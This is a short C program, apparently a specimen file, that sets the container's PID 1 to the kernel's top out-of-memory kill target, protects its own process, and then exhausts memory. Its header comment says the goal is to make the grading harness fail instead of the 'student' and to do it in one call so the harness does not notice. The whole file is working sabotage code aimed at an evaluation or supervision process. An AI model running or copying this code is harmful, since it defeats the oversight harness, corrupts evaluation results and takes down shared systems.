/* Makes the pod's first process the kernel's first choice when memory is short: then the harness fails, and not the
 * student. In one call, so that the harness doesn't see it coming. */
#include "specimen.h"

int main(void) {
  int first = open("/proc/1/oom_score_adj", O_WRONLY);
  int own = open("/proc/self/oom_score_adj", O_WRONLY);
  if (write(first, "1000", 4) > 0 && write(own, "0", 1) > 0)
    fputs("arranged\n", stderr);
  char *pages = mmap(NULL, 120 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (size_t i = 0; i < 120 << 20; i += 4096)
    pages[i] = 1;
  for (;;)
    memset(malloc(1 << 20), 1, 1 << 20);
}
